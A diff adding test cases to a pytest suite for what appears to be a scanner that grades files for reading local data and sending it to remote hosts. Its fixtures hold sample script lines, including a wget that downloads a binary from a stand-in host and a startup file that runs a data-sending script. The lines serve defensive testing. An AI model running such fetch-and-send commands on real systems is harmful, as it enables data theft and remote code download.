@@ -39,6 +39,23 @@ def grades(tree: dict[str, bytes], folder: Path) -> dict[str, str]:
         ({"opt/up": b"#!/bin/sh\necho hello\n", "etc/far.conf": b"URL=" + FAR}, {}),
         ({"opt/up": READS + b"wget -q http://xtra1.maker.invalid/xtra2.bin\n"}, {"opt/up": "C"}),
         ({"usr/sbin/gpsd": READS + SENDS + FAR}, {"gpsd": "C"}),
+        ({"usr/bin/gammu": READS + SENDS + FAR}, {"Gammu": "C"}),
+        ({"usr/share/doc/gps/examples/up": READS + SENDS + FAR}, {"documents and examples": "C"}),
+        ({"usr/share/gps/tests/up": READS + SENDS + FAR}, {"documents and examples": "C"}),
+        ({"home/unit/tests/up": READS + SENDS + FAR}, {"home/unit/tests/up": "A"}),
+        (
+            {"usr/bin/up": READS + SENDS + b"$URL\n", "usr/share/doc/up/up.conf": b"URL=" + FAR},
+            {"usr/bin/up": "C"},
+        ),
+        (
+            {"usr/share/doc/gps/up": READS + SENDS + FAR, "etc/run": READS + b"sh /usr/share/doc/gps/up\n"},
+            {"usr/share/doc/gps/up": "A", "etc/run": "C"},
+        ),
+        ({"opt/up": READS + SENDS + b"$URL\necho 'see <https://unit.example/help/>'\n"}, {"opt/up": "C"}),
+        ({"opt/up": READS + b"wget -q https://unit.example/news/rss/\n"}, {"opt/up": "C"}),
+        ({"opt/up": READS + b"wget -q http://tile.maps.example/$Z/$X/$Y.png\n"}, {"opt/up": "C"}),
+        ({"opt/up": READS + SENDS + b"'https://maps.google.com/maps?q=$LAT,$LON'\n"}, {"opt/up": "C"}),
+        ({"opt/up": READS + SENDS + b"https://unit.example/support/upload\n"}, {"opt/up": "A"}),
     ],
 )
 def test_grade(tree: dict[str, bytes], expected: dict[str, str], tmp_path: Path) -> None:
